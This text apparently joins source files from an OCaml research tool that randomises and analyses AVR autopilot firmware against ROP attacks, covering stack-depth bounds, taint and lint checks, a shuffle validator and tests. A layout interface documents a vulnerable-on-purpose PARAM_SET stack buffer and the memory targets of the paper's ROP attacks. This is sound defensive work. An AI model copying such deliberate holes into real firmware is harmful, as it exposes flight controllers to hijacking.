  | Isa.Mov (d, s) ->
      set d regs.(s);
      st
  | Isa.Movw (d, s) ->
      set d regs.(s);
      set (d + 1) regs.(s + 1);
      st
  | Isa.Subi (r, k) ->
      set r
        (match regs.(r) with
        | Sp_lo o -> Pend_lo (o, k)
        | RConst c -> RConst ((c - k) land 0xFF)
        | _ -> RTop);
      st
  | Isa.Sbci (r, kh) ->
      (if r >= 1 then
         match (regs.(r), regs.(r - 1)) with
         | Sp_hi o, Pend_lo (o', kl) when o = o' ->
             let k = signed16 ((kh lsl 8) lor kl) in
             set (r - 1) (Sp_lo (o + k));
             set r (Sp_hi (o + k))
         | _ -> set r RTop
       else set r RTop);
      st
  | Isa.Adiw (d, k) | Isa.Sbiw (d, k) ->
      let sign = match insn with Isa.Adiw _ -> -1 | _ -> 1 in
      (match (regs.(d), regs.(d + 1)) with
      | Sp_lo o, Sp_hi o' when o = o' ->
          set d (Sp_lo (o + (sign * k)));
          set (d + 1) (Sp_hi (o + (sign * k)))
      | _ ->
          set d RTop;
          set (d + 1) RTop);
      st
  | Isa.Eor (d, s) when d = s ->
      set d (RConst 0);
      st
  | Isa.Add (d, _) | Isa.Adc (d, _) | Isa.Sub (d, _) | Isa.Sbc (d, _) | Isa.And (d, _)
  | Isa.Or (d, _) | Isa.Eor (d, _) | Isa.Andi (d, _) | Isa.Ori (d, _) | Isa.Com d
  | Isa.Neg d | Isa.Inc d | Isa.Dec d | Isa.Lsr d | Isa.Ror d | Isa.Asr d | Isa.Swap d
  | Isa.Bld (d, _) | Isa.Lds (d, _) | Isa.Ldd (d, _, _) ->
      set d RTop;
      st
  | Isa.Mul _ ->
      set 0 RTop;
      set 1 RTop;
      st
  | Isa.Ld (r, p) ->
      set r RTop;
      let base, moves = ptr_regs p in
      if moves then begin
        set base RTop;
        set (base + 1) RTop
      end;
      st
  | Isa.St (p, _) ->
      let base, moves = ptr_regs p in
      if moves then begin
        set base RTop;
        set (base + 1) RTop
      end;
      st
  | Isa.Lpm0 | Isa.Elpm0 ->
      set 0 RTop;
      st
  | Isa.Lpm (r, inc) | Isa.Elpm (r, inc) ->
      set r RTop;
      if inc then begin
        set 30 RTop;
        set 31 RTop
      end;
      st
  | _ -> st

let clobber_call st =
  let regs = Array.copy st.regs in
  for r = 0 to 31 do
    if call_clobbered r then regs.(r) <- RTop
  done;
  if st.half <> None then { depth = DTop; regs; half = None } else { st with regs }

(* ---- per-entry local analysis ---------------------------------------- *)

type local = {
  l_entry : int;
  l_max : dval;  (** deepest in-state depth seen intra-procedurally *)
  l_calls : (int * dval * int list) list;  (** site, depth there, targets *)
  l_tails : (int * dval * int) list;  (** site, depth there, target *)
  l_iterations : int;
}

type report = {
  per_entry : (local * bound) list;  (** ascending entry, with totals *)
  main_total : bound;
  isr_extra : bound;
  image_bound : bound;
  entries : int;
  iterations : int;
  sp_classes : (int, sp_class) Hashtbl.t;
}

let name_of img addr =
  match Image.function_containing img addr with
  | Some s ->
      if s.Image.addr = addr then s.Image.name
      else Printf.sprintf "%s+0x%x" s.Image.name (addr - s.Image.addr)
  | None ->
      if addr >= 0 && addr < 4 * Device.Vector.count then Printf.sprintf "vector_%d" (addr / 4)
      else Printf.sprintf "low:0x%x" addr

let owner_span img addr =
  match Image.function_containing img addr with
  | Some s -> (s.Image.addr, s.Image.addr + s.Image.size)
  | None ->
      let slot = addr land lnot 3 in
      (slot, slot + 4)

(* Entry addresses: CFG seeds, every direct call target, every stored
   function pointer, and every control edge crossing a function span
   (tail jumps into shared epilogues land mid-function). *)
let entry_set cfg =
  let img = Cfg.image cfg in
  let set = Hashtbl.create 256 in
  let add a = if Cfg.is_reachable cfg a then Hashtbl.replace set a () in
  List.iter (fun (a, _) -> add a) (Cfg.entries cfg);
  let code = img.Image.code in
  Cfg.iter_reachable cfg (fun addr insn size ->
      let here = fst (owner_span img addr) in
      match Isa.transfer insn with
      | Isa.Transfer.Call -> (
          match insn with
          | Isa.Call a -> add (2 * a)
          | Isa.Rcall off -> add (addr + size + (2 * off))
          | _ -> ())
      | Isa.Transfer.Jump | Isa.Transfer.Straight | Isa.Transfer.Branch | Isa.Transfer.Skip ->
          List.iter
            (fun t -> if fst (owner_span img t) <> here then add t)
            (Cfg.successors ~code addr insn size)
      | Isa.Transfer.Indirect_call | Isa.Transfer.Indirect_jump | Isa.Transfer.Return | Isa.Transfer.Stop -> ());
  List.iter
    (fun loc -> match Cfg.funptr_target img loc with Some t -> add t | None -> ())
    img.Image.funptr_locs;
  List.sort compare (Hashtbl.fold (fun a _ acc -> a :: acc) set [])

let dval_join a b =
  match (a, b) with D x, D y -> D (max x y) | DTop, _ | _, DTop -> DTop

let analyze_entry cfg ~icall_targets ~record_sp ~nodes entry =
  let img = Cfg.image cfg in
  let code = img.Image.code in
  let span_lo, span_hi = owner_span img entry in
  let in_span a = a >= span_lo && a < span_hi in
  let calls : (int, dval * int list) Hashtbl.t = Hashtbl.create 8 in
  let tails : (int, dval * int) Hashtbl.t = Hashtbl.create 8 in
  let record_call site d targets =
    let d =
      match Hashtbl.find_opt calls site with Some (d0, _) -> dval_join d0 d | None -> d
    in
    Hashtbl.replace calls site (d, targets)
  in
  let record_tail site d target =
    let d =
      match Hashtbl.find_opt tails site with Some (d0, _) -> dval_join d0 d | None -> d
    in
    Hashtbl.replace tails site (d, target)
  in
  let transfer addr st =
    match Cfg.insn_at cfg addr with
    | None -> []
    | Some (insn, size) -> (
        match Isa.transfer insn with
        | Isa.Transfer.Return | Isa.Transfer.Stop -> []
        | Isa.Transfer.Call ->
            let t =
              match insn with
              | Isa.Call a -> 2 * a
              | Isa.Rcall off -> addr + size + (2 * off)
              | _ -> assert false
            in
            record_call addr st.depth [ t ];
            [ (addr + size, clobber_call st) ]
        | Isa.Transfer.Indirect_call ->
            record_call addr st.depth icall_targets;
            [ (addr + size, clobber_call st) ]
        | Isa.Transfer.Indirect_jump ->
            List.iter (fun t -> if not (in_span t) then record_tail addr st.depth t) icall_targets;
            List.filter_map (fun t -> if in_span t then Some (t, st) else None) icall_targets
        | Isa.Transfer.Straight | Isa.Transfer.Branch | Isa.Transfer.Jump | Isa.Transfer.Skip ->
            let st' = apply ~record_sp addr insn st in
            List.filter_map
              (fun t ->
                if in_span t then Some (t, st')
                else begin
                  record_tail addr st'.depth t;
                  None
                end)
              (Cfg.successors ~code addr insn size))
  in
  let widen st = { st with depth = DTop } in
  let r = S.solve ~max_joins:64 ~widen ~nodes ~seeds:[ (entry, entry_state ()) ] ~transfer () in
  let l_max =
    Hashtbl.fold (fun _ (st : st) acc -> dval_join acc st.depth) r.S.in_states (D 0)
  in
  {
    l_entry = entry;
    l_max;
    l_calls = Hashtbl.fold (fun s (d, ts) acc -> (s, d, ts) :: acc) calls [];
    l_tails = Hashtbl.fold (fun s (d, t) acc -> (s, d, t) :: acc) tails [];
    l_iterations = r.S.iterations;
  }

(* ---- interprocedural totals ------------------------------------------ *)

let analyze ?(dev = Device.atmega2560) cfg =
  let img = Cfg.image cfg in
  let pc_bytes = dev.Device.pc_bytes in
  let sp_classes : (int, sp_class) Hashtbl.t = Hashtbl.create 16 in
  let record_sp addr c =
    let c' =
      match (Hashtbl.find_opt sp_classes addr, c) with
      | Some Unknown_source, _ | _, Unknown_source -> Unknown_source
      | Some prev, _ -> prev
      | None, c -> c
    in
    Hashtbl.replace sp_classes addr c'
  in
  let icall_targets =
    List.sort_uniq compare
      (List.filter_map
         (fun loc ->
           match Cfg.funptr_target img loc with
           | Some t when Cfg.in_exec img t -> Some t
           | _ -> None)
         img.Image.funptr_locs)
  in
  let reachable = Array.of_list (Cfg.reachable_addrs cfg) in
  let nodes_in lo hi =
    (* reachable addresses within [lo, hi) — binary search the sorted array *)
    let n = Array.length reachable in
    let rec lower l r = if l >= r then l else
      let m = (l + r) / 2 in
      if reachable.(m) < lo then lower (m + 1) r else lower l m
    in
    let start = lower 0 n in
    let acc = ref [] in
    let i = ref start in
    while !i < n && reachable.(!i) < hi do
      acc := reachable.(!i) :: !acc;
      incr i
    done;
    !acc
  in
  let entries = entry_set cfg in
  let locals = Hashtbl.create 64 in
  let iterations = ref 0 in
  List.iter
    (fun e ->
      let lo, hi = owner_span img e in
      let l = analyze_entry cfg ~icall_targets ~record_sp ~nodes:(nodes_in lo hi) e in
      iterations := !iterations + l.l_iterations;
      Hashtbl.replace locals e l)
    entries;
  (* Dependency graph over entries; recursion condenses to Unbounded. *)
  let deps e =
    match Hashtbl.find_opt locals e with
    | None -> []
    | Some l ->
        List.sort_uniq compare
          (List.concat_map (fun (_, _, ts) -> ts) l.l_calls
          @ List.map (fun (_, _, t) -> t) l.l_tails)
  in
  let comps = Dataflow.sccs ~nodes:entries ~succs:deps in
  let totals : (int, bound) Hashtbl.t = Hashtbl.create 64 in
  let total_of e =
    match Hashtbl.find_opt totals e with
    | Some b -> b
    | None -> Unbounded (Printf.sprintf "unanalyzed target 0x%x" e)
  in
  List.iter
    (fun comp ->
      let recursive =
        match comp with
        | [ e ] -> List.mem e (deps e)
        | _ -> true
      in
      List.iter
        (fun e ->
          let b =
            if recursive then Unbounded (Printf.sprintf "recursion through %s" (name_of img e))
            else
              match Hashtbl.find_opt locals e with
              | None -> Unbounded (Printf.sprintf "no local analysis for 0x%x" e)
              | Some l ->
                  let of_dval site = function
                    | D d -> Finite d
                    | DTop -> Unbounded (Printf.sprintf "unknown depth at 0x%x" site)
                  in
                  let b =
                    match l.l_max with
                    | D d -> Finite d
                    | DTop -> Unbounded (Printf.sprintf "depth diverges in %s" (name_of img e))
                  in
                  let b =
                    List.fold_left
                      (fun acc (site, d, ts) ->
                        List.fold_left
                          (fun acc t ->
                            bound_max acc
                              (bound_add (bound_sum (of_dval site d) (total_of t)) pc_bytes))
                          acc ts)
                      b l.l_calls
                  in
                  List.fold_left
                    (fun acc (site, d, t) ->
                      bound_max acc (bound_sum (of_dval site d) (total_of t)))
                    b l.l_tails
          in
          Hashtbl.replace totals e b)
        comp)
    comps;
  let per_entry =
    List.map (fun e -> (Hashtbl.find locals e, total_of e)) entries
  in
  let vec_entry n =
    let a = Device.Vector.byte_addr n in
    if Hashtbl.mem locals a then Some a else None
  in
  let main_total = match vec_entry 0 with Some a -> total_of a | None -> Finite 0 in
  let isr_totals =
    List.filter_map
      (fun n -> Option.map total_of (vec_entry n))
      (List.init (Device.Vector.count - 1) (fun i -> i + 1))
  in
  let isr_extra =
    match isr_totals with
    | [] -> Finite 0
    | l -> bound_add (List.fold_left bound_max (Finite 0) l) pc_bytes
  in
  {
    per_entry;
    main_total;
    isr_extra;
    image_bound = bound_sum main_total isr_extra;
    entries = List.length entries;
    iterations = !iterations;
    sp_classes;
  }

(* The classifications are a byproduct of the full analysis; the lint
   wants just the table. *)
let sp_write_classes cfg = (analyze cfg).sp_classes

(* ---- rendering ------------------------------------------------------- *)

let bound_to_json = function
  | Finite n -> Json.Int n
  | Unbounded why -> Json.Obj [ ("unbounded", Json.String why) ]

let pp_bound fmt = function
  | Finite n -> Format.fprintf fmt "%d" n
  | Unbounded why -> Format.fprintf fmt "unbounded (%s)" why

let to_json ?(per_function = true) img r =
  Json.Obj
    ([
       ("entries", Json.Int r.entries);
       ("iterations", Json.Int r.iterations);
       ("main_total", bound_to_json r.main_total);
       ("isr_extra", bound_to_json r.isr_extra);
       ("image_bound", bound_to_json r.image_bound);
     ]
    @
    if not per_function then []
    else
      [
        ( "functions",
          Json.List
            (List.map
               (fun (l, total) ->
                 Json.Obj
                   [
                     ("entry", Json.Int l.l_entry);
                     ("name", Json.String (name_of img l.l_entry));
                     ( "local_max",
                       match l.l_max with
                       | D d -> Json.Int d
                       | DTop -> Json.String "unbounded" );
                     ("total", bound_to_json total);
                   ])
               r.per_entry) );
      ])

let pp fmt img r =
  Format.fprintf fmt "@[<v>stack depth: image bound %a (main %a + isr %a), %d entries@,"
    pp_bound r.image_bound pp_bound r.main_total pp_bound r.isr_extra r.entries;
  List.iter
    (fun (l, total) ->
      Format.fprintf fmt "  %-28s local %s total %a@,"
        (name_of img l.l_entry)
        (match l.l_max with D d -> string_of_int d | DTop -> "?")
        pp_bound total)
    r.per_entry;
  Format.fprintf fmt "@]"
