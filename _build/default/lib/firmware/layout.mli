(** SRAM layout of the synthetic autopilot.

    Static data-space addresses shared between the runtime kernel, the
    code generator and (because the attacker has the unprotected binary,
    §IV-A) the attack builders.  All addresses are within the ATmega2560
    data space: registers 0x00–0x1F, I/O 0x20–0x5F, SRAM from 0x200. *)

val data_vma : int
(** Destination of the .data initializer copy (the vtable lives here). *)

val vtable_entries : int
val vtable_vma : int

val stage : int
(** 255-byte staging area where the MAVLink receive state machine
    accumulates a frame's payload before it is (vulnerably) copied to a
    stack buffer. *)

val stage_len : int

(** {2 Receive state machine variables} *)

val st_state : int
val st_len : int
val st_idx : int
val st_msgid : int
val rxcrc_lo : int
val rxcrc_hi : int
val txcrc_lo : int
val txcrc_hi : int
val txseq : int
val loop_lo : int
val loop_hi : int
val gcs_beat : int
val gyro_val : int
(** 16-bit copy of the gyroscope sensor reading — the value the paper's
    ROP attack V1 overwrites. *)

val gyro_cfg : int
(** 16-bit gyroscope calibration offset applied to every sample — the
    "configuration registers ... that would have a continuous effect"
    the paper's §IV-C points attackers at. *)

val tick : int
(** 16-bit tick counter incremented by the timer-compare ISR — the
    interrupt-driven workload that exercises the vector table under
    randomization. *)

val telem : int
(** 26-byte RAW_IMU payload block streamed as telemetry; xgyro is at
    [telem + telem_gyro_off]. *)

val telem_len : int
val telem_gyro_off : int

val telem_accel_off : int
(** xacc field offset within the RAW_IMU payload block. *)

val param_area : int
(** Where PARAM_SET values are stored by [param_store] (the function whose
    tail is the paper's Fig. 5 [write_mem_gadget]). *)

val cmd_area : int

(** [scratch i] is the scratch address assigned to generated function [i]. *)
val scratch : int -> int

val stack_top : int
(** Initial stack pointer (top of SRAM). *)

val free_region : int
(** Start of the SRAM region unused by the application — where ROP attack
    V3 stages its arbitrarily large payload. *)

val free_region_len : int

val vuln_buffer_len : int
(** Size of the stack buffer in the vulnerable PARAM_SET handler. *)

val vuln_frame_size : int
(** Bytes subtracted from SP for the handler's frame. *)
