(** Uplink taint analysis (a {!Dataflow} client).

    Tracks bytes read from the UART receive register ([in Rd, UDR] —
    the §IV attacker's only entry point) forward through the whole
    reachable program: a context-insensitive interprocedural supergraph
    whose call edges enter the callee, whose [ret] edges deliver to the
    continuation of every call site of the returning function (closed
    over tail jumps via {!Dataflow.Callgraph}), and whose [icall]s fan
    out to every stored function pointer.

    The lattice per register/cell is [NotTainted < Bounded < Tainted];
    [Bounded] means uplink-derived but proved below a compile-time
    constant by a [cpi]/branch clamp or an [andi] mask, which is the
    per-edge refinement that distinguishes the patched PARAM_SET
    handler from the vulnerable one.  Memory is split field-insensitive
    style: direct [lds]/[sts] addresses are separate cells, all
    pointer-addressed memory shares one summary cell (aliasing between
    the two classes is ignored — the named scalar cells of this
    firmware are only written directly).  The hardware stack is an
    abstract push/pop list so register saves round-trip their taint.
    Interrupt handlers are not taint-seeded: the analysis follows the
    reset path, and the uplink enters through polling.

    A {e finding} is an intra-procedural loop (nontrivial SCC) that
    both stores through a pointer ([st]/[std]) and exits on a branch
    whose flags derive from a [Tainted] register — the unchecked
    attacker-controlled copy length of §IV.  Loops whose exit register
    is merely [Bounded] (the checked firmware variant) stay silent. *)

type finding = {
  fn : string;  (** containing function *)
  branch_addr : int;  (** loop-exit branch whose flags are tainted *)
  store_addr : int;  (** pointer store inside the same loop *)
  src_reg : int option;  (** register the flags derive from, if known *)
  detail : string;
}

type report = {
  findings : finding list;  (** ascending branch address *)
  iterations : int;  (** supergraph worklist pops *)
  nodes : int;  (** reachable instructions analyzed *)
}

val analyze : Cfg.t -> report

(** Findings as {!Lint.Unbounded_uplink_copy} lint findings ([addr] =
    branch, [target] = store). *)
val to_lint_findings : Mavr_obj.Image.t -> report -> Lint.finding list

val to_json : report -> Mavr_telemetry.Json.t
val pp_finding : Format.formatter -> finding -> unit
