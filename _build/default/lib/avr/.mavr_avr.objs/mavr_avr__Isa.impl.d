lib/avr/isa.ml: Format Printf
