lib/sim/dynamics.ml: Float Format
