module Isa = Mavr_avr.Isa
module Device = Mavr_avr.Device
module Disasm = Mavr_avr.Disasm
module Image = Mavr_obj.Image
module Json = Mavr_telemetry.Json

type stats = {
  functions : int;
  insns : int;
  edges : int;
  funptrs : int;
  vectors : int;
}

type mismatch = { at : int; what : string }

let mk at fmt = Printf.ksprintf (fun what -> { at; what }) fmt

(* Address translation: the randomizer permutes whole function blocks of
   the text section and leaves everything else in place, so the map is
   [name-match + intra-block offset] inside text and the identity
   elsewhere. *)
let make_map ~(original : Image.t) ~(randomized : Image.t) =
  let by_name = Hashtbl.create 64 in
  List.iter
    (fun (s : Image.symbol) -> Hashtbl.replace by_name s.name s.addr)
    randomized.Image.symbols;
  fun addr ->
    if addr < original.text_start || addr >= original.text_end then addr
    else
      match Image.function_containing original addr with
      | None -> addr
      | Some sym -> (
          match Hashtbl.find_opt by_name sym.name with
          | Some base -> base + (addr - sym.addr)
          | None -> addr)

(* The randomized image's instruction expected at the translated address,
   given the original instruction: only transfer targets change, and only
   through [map_addr]. *)
let retarget ~map_addr ~orig_addr ~rand_addr ~size insn =
  let rel k = map_addr (orig_addr + size + (2 * k)) - (rand_addr + size) in
  match insn with
  | Isa.Jmp a -> Isa.Jmp (map_addr (2 * a) / 2)
  | Isa.Call a -> Isa.Call (map_addr (2 * a) / 2)
  | Isa.Rjmp k -> Isa.Rjmp (rel k / 2)
  | Isa.Rcall k -> Isa.Rcall (rel k / 2)
  | Isa.Brbs (f, k) -> Isa.Brbs (f, rel k / 2)
  | Isa.Brbc (f, k) -> Isa.Brbc (f, rel k / 2)
  | other -> other

(* Compare one executable range instruction-by-instruction under the
   translation: boundaries and sizes must line up exactly, and each
   instruction must equal its retargeted original. *)
let compare_range ~map_addr ~o_code ~r_code ~o_base ~r_base ~len ~what bad =
  let o_lines = Disasm.sweep ~pos:o_base ~len o_code in
  let r_lines = Disasm.sweep ~pos:r_base ~len r_code in
  let count = ref 0 in
  let rec go = function
    | [], [] -> ()
    | (o : Disasm.line) :: os, (r : Disasm.line) :: rs ->
        incr count;
        let o_off = o.byte_addr - o_base and r_off = r.byte_addr - r_base in
        if o_off <> r_off || o.size_bytes <> r.size_bytes then
          bad
            (mk o.byte_addr "%s: instruction boundaries diverge at +0x%x vs +0x%x" what o_off
               r_off)
        else begin
          let expect =
            retarget ~map_addr ~orig_addr:o.byte_addr ~rand_addr:r.byte_addr ~size:o.size_bytes
              o.insn
          in
          if expect <> r.insn then
            bad
              (mk r.byte_addr "%s: at +0x%x expected %s, found %s" what o_off
                 (Isa.to_string expect) (Isa.to_string r.insn));
          go (os, rs)
        end
    | o :: _, [] -> bad (mk o.byte_addr "%s: randomized stream ends early" what)
    | [], r :: _ -> bad (mk r.byte_addr "%s: randomized stream has extra instructions" what)
  in
  go (o_lines, r_lines);
  !count

let validate ~(original : Image.t) ~(randomized : Image.t) =
  let bad_list = ref [] in
  let bad m = bad_list := m :: !bad_list in
  (* 1. Structure: sizes, region bounds, symbol multiset, funptr slots.
     Without these the address map is meaningless, so fail fast. *)
  let structural () =
    if Image.size original <> Image.size randomized then
      bad (mk 0 "image size %d <> %d" (Image.size original) (Image.size randomized));
    if
      original.text_start <> randomized.text_start
      || original.text_end <> randomized.text_end
      || original.exec_low_end <> randomized.exec_low_end
    then bad (mk 0 "executable region bounds changed");
    let key (s : Image.symbol) = (s.name, s.size, s.kind) in
    let multiset img = List.sort compare (List.map key img.Image.symbols) in
    if multiset original <> multiset randomized then
      bad (mk original.text_start "function multiset (name, size, kind) changed");
    if
      List.sort compare original.funptr_locs <> List.sort compare randomized.funptr_locs
    then bad (mk 0 "function-pointer slot locations changed");
    !bad_list = []
  in
  if not (structural ()) then Error (List.rev !bad_list)
  else begin
    let map_addr = make_map ~original ~randomized in
    let o_code = original.Image.code and r_code = randomized.Image.code in
    (* 2. Per-function normalized instruction streams. *)
    let insns = ref 0 in
    List.iter
      (fun (s : Image.symbol) ->
        match Image.find randomized s.name with
        | r ->
            insns :=
              !insns
              + compare_range ~map_addr ~o_code ~r_code ~o_base:s.addr ~r_base:r.addr
                  ~len:s.size ~what:s.name bad
        | exception Not_found -> bad (mk s.addr "function %s missing after shuffle" s.name))
      original.Image.symbols;
    (* 3. The low region (vector slots + trampolines) stays in place but
       its absolute targets follow the shuffle. *)
    insns :=
      !insns
      + compare_range ~map_addr ~o_code ~r_code ~o_base:0 ~r_base:0 ~len:original.exec_low_end
          ~what:"low-region" bad;
    (* 4. Data bytes are untouched except the funptr slots, which must
       retarget consistently. *)
    let funptr_bytes = Hashtbl.create 16 in
    List.iter
      (fun loc ->
        Hashtbl.replace funptr_bytes loc ();
        Hashtbl.replace funptr_bytes (loc + 1) ())
      original.funptr_locs;
    let regions = Cfg.exec_regions original in
    let in_exec a = List.exists (fun (s, e) -> a >= s && a < e) regions in
    let n = min (String.length o_code) (String.length r_code) in
    let reported = ref 0 in
    for a = 0 to n - 1 do
      if
        (not (in_exec a))
        && (not (Hashtbl.mem funptr_bytes a))
        && o_code.[a] <> r_code.[a]
        && !reported < 8
      then begin
        incr reported;
        bad (mk a "data byte changed: 0x%02x -> 0x%02x" (Char.code o_code.[a])
               (Char.code r_code.[a]))
      end
    done;
    List.iter
      (fun loc ->
        match (Cfg.funptr_target original loc, Cfg.funptr_target randomized loc) with
        | Some t, Some t' when map_addr t = t' -> ()
        | Some t, Some t' ->
            bad (mk loc "funptr slot retargets to 0x%x, expected 0x%x" t' (map_addr t))
        | _ -> bad (mk loc "funptr slot truncated"))
      original.funptr_locs;
    (* 5. CFG isomorphism: the recovered graphs must agree node-for-node
       and edge-for-edge under the translation. *)
    let edges = ref 0 in
    let o_cfg = Cfg.recover original and r_cfg = Cfg.recover randomized in
    let o_nodes = Cfg.reachable_addrs o_cfg and r_nodes = Cfg.reachable_addrs r_cfg in
    if List.sort compare (List.map map_addr o_nodes) <> r_nodes then
      bad (mk 0 "reachable node sets are not isomorphic (%d vs %d nodes)"
             (List.length o_nodes) (List.length r_nodes));
    if
      List.sort compare (List.map map_addr (Cfg.block_starts o_cfg))
      <> Cfg.block_starts r_cfg
    then bad (mk 0 "basic-block leader sets are not isomorphic");
    Cfg.iter_reachable o_cfg (fun addr insn size ->
        let succs = Cfg.successors ~code:o_code addr insn size in
        edges := !edges + List.length succs;
        let addr' = map_addr addr in
        match Cfg.insn_at r_cfg addr' with
        | None -> bad (mk addr' "no randomized instruction at the image of 0x%x" addr)
        | Some (insn', size') ->
            let succs' = Cfg.successors ~code:r_code addr' insn' size' in
            if
              List.sort compare (List.map map_addr succs) <> List.sort compare succs'
            then
              bad (mk addr' "edge set at the image of 0x%x diverges (%d vs %d successors)"
                     addr (List.length succs) (List.length succs')));
    match List.rev !bad_list with
    | [] ->
        Ok
          {
            functions = Image.function_count original;
            insns = !insns;
            edges = !edges;
            funptrs = List.length original.funptr_locs;
            vectors = Device.Vector.count;
          }
    | ms -> Error ms
  end

let stats_to_json s =
  Json.Obj
    [
      ("functions", Json.Int s.functions);
      ("insns", Json.Int s.insns);
      ("edges", Json.Int s.edges);
      ("funptrs", Json.Int s.funptrs);
      ("vectors", Json.Int s.vectors);
    ]

let mismatches_to_json ms =
  Json.List
    (List.map
       (fun m -> Json.Obj [ ("at", Json.Int m.at); ("what", Json.String m.what) ])
       ms)

let to_json = function
  | Ok s -> Json.Obj [ ("ok", Json.Bool true); ("stats", stats_to_json s) ]
  | Error ms -> Json.Obj [ ("ok", Json.Bool false); ("mismatches", mismatches_to_json ms) ]

let pp_mismatch fmt m = Format.fprintf fmt "at 0x%x: %s" m.at m.what
