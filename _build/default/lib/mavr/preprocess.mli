(** Host-side preprocessing analyses (§VI-B2).

    The assembler hands us exact function-pointer locations, but the
    paper's preprocessing works on compiled binaries: it {e scans} the
    data sections for words that look like function pointers ("references
    in the data section are scanned for function pointers ... C++ class
    vtables and global arrays of functions").  This module implements that
    conservative scan independently, so the two sources can be
    cross-checked — and so images reconstructed without assembler
    metadata could still be preprocessed. *)

(** [scan_function_pointers image] returns the flash offsets (within the
    non-executable low-flash rodata region, [exec_low_end ..
    text_start)) holding 16-bit words that decode as the word address of
    some function start.  A superset-of-truth heuristic: every real
    pointer is found; coincidental data may be too. *)
val scan_function_pointers : Mavr_obj.Image.t -> int list

(** [verify image] checks the assembler-recorded [funptr_locs] against the
    scan: [Ok ()] when every recorded pointer is discovered by the scan.
    The inverse direction (scan ⊆ recorded) does not hold in general —
    that asymmetry is exactly why the paper prefers symbol information
    from the ELF file over scanning when it is available. *)
val verify : Mavr_obj.Image.t -> (unit, string) result

(** [false_positive_count image] — scanned-but-not-recorded locations: the
    cost of the scan-only approach (each one would be needlessly patched,
    corrupting constants that merely look like code pointers). *)
val false_positive_count : Mavr_obj.Image.t -> int
