(** Firmware image lint: structural invariants every image the generator
    and the randomizer emit must satisfy.

    Each violation is a typed finding carrying the offending address, the
    target (when the invariant is about a transfer), and a short
    disassembly context.  The invariants:

    - {e transfer targets}: every direct [call]/[jmp]/[rcall]/[rjmp]/
      conditional-branch target of a reachable instruction lands on a
      decodable instruction boundary inside an executable region (and a
      skip instruction's skip target stays in bounds);
    - {e vector table}: each hardware vector slot (4-byte granularity,
      the way the interrupt unit indexes it) holds a [jmp] to a function
      start;
    - {e function pointers}: each preprocessed vtable/jump-table entry
      stays inside the text section and points at a function start;
    - {e stack-pointer writes}: every [out SPL/SPH] must write a value
      the {!Stackdepth} data-flow analysis proves SP-relative (the
      frame idiom and the Fig. 4 teardown) or constant (startup
      initialization) on every path reaching it — a data-flow fact, not
      the old ±3/±8-instruction window pattern match — and no [sts] may
      target the SP's data-space aliases ([io_base + SPL/SPH], the
      memory-mapped route to the same stack-pivot primitive).  Anything
      else is a stray SP write. *)

type kind =
  | Target_out_of_bounds
  | Target_undecodable
  | Target_mid_instruction  (** lands inside another reachable instruction *)
  | Vector_not_jmp
  | Vector_target_not_function
  | Funptr_out_of_bounds
  | Funptr_not_function
  | Stray_sp_write
  | Unbounded_uplink_copy
      (** emitted by {!Taint.to_lint_findings}, never by {!run} itself *)

type finding = {
  kind : kind;
  addr : int;  (** offending instruction (or table-entry flash offset) *)
  target : int option;
  detail : string;
  context : string;  (** short disassembly listing around [addr] *)
}

val kind_name : kind -> string

(** Build a finding (with disassembly context) from outside this module —
    used by analyses that surface results in lint form, e.g. {!Taint}. *)
val make : Mavr_obj.Image.t -> kind -> int -> ?target:int -> string -> finding

(** [run ?cfg image] checks every invariant; [cfg] avoids re-recovering
    a CFG the caller already has.  An empty list means the image is
    lint-clean. *)
val run : ?cfg:Cfg.t -> Mavr_obj.Image.t -> finding list

val to_json : finding list -> Mavr_telemetry.Json.t
val pp_finding : Format.formatter -> finding -> unit
