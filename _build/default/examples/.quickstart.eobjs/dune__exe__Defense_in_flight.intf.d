examples/defense_in_flight.mli:
