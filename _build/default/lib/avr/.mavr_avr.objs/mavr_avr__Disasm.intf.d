lib/avr/disasm.mli: Format Isa
