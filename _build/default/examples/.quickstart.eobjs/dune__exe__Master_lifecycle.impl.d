examples/master_lifecycle.ml: Format List Mavr_avr Mavr_core Mavr_firmware Mavr_obj String
