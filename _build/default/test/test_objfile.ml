module Ihex = Mavr_obj.Ihex
module Image = Mavr_obj.Image
module Symtab = Mavr_obj.Symtab

let test_ihex_simple_roundtrip () =
  let data = String.init 100 (fun i -> Char.chr (i land 0xFF)) in
  let hex = Ihex.encode [ (0, data) ] in
  match Ihex.decode hex with
  | [ (0, d) ] -> Alcotest.(check string) "roundtrip" data d
  | segs -> Alcotest.failf "unexpected segments: %d" (List.length segs)

let test_ihex_crosses_64k () =
  (* Images above 64 KB need type-04 extended address records. *)
  let data = String.init 200 (fun i -> Char.chr (i land 0xFF)) in
  let base = 0xFFE0 in
  let hex = Ihex.encode [ (base, data) ] in
  Alcotest.(check bool) "has type-04 record" true
    (String.split_on_char '\n' hex |> List.exists (fun l -> String.length l > 8 && String.sub l 7 2 = "04"));
  match Ihex.decode hex with
  | [ (b, d) ] ->
      Alcotest.(check int) "base preserved" base b;
      Alcotest.(check string) "data preserved" data d
  | segs -> Alcotest.failf "unexpected segments: %d" (List.length segs)

let test_ihex_multi_segment () =
  let hex = Ihex.encode [ (0x800000, "META"); (0, "CODE") ] in
  let segs = Ihex.decode hex in
  Alcotest.(check int) "two segments" 2 (List.length segs);
  Alcotest.(check string) "code first (ascending)" "CODE" (snd (List.hd segs));
  Alcotest.(check string) "meta second" "META" (snd (List.nth segs 1))

let test_ihex_bad_checksum () =
  let hex = Ihex.encode [ (0, "hello world") ] in
  (* Corrupt one data nibble. *)
  let bad = Bytes.of_string hex in
  Bytes.set bad 10 (if Bytes.get bad 10 = '0' then '1' else '0');
  match Ihex.decode (Bytes.to_string bad) with
  | _ -> Alcotest.fail "expected checksum error"
  | exception Ihex.Parse_error _ -> ()

let test_ihex_missing_eof () =
  match Ihex.decode ":0100000001FE\n" (* data record only, no EOF *) with
  | _ -> Alcotest.fail "expected missing-EOF error"
  | exception Ihex.Parse_error _ -> ()

let test_ihex_flatten () =
  let flat = Ihex.flatten ~fill:'\xff' [ (2, "AB"); (6, "C") ] in
  Alcotest.(check string) "gap filled" "\xff\xffAB\xff\xffC" flat;
  let flat = Ihex.flatten ~limit:4 [ (2, "AB"); (0x800000, "META") ] in
  Alcotest.(check string) "limit drops high segment" "\xff\xffAB" flat

let build_image () = (Helpers.build_mavr ()).image

let test_image_invariants () =
  let img = build_image () in
  Helpers.assert_ok (Image.validate img);
  Alcotest.(check int) "function count" 120 (Image.function_count img);
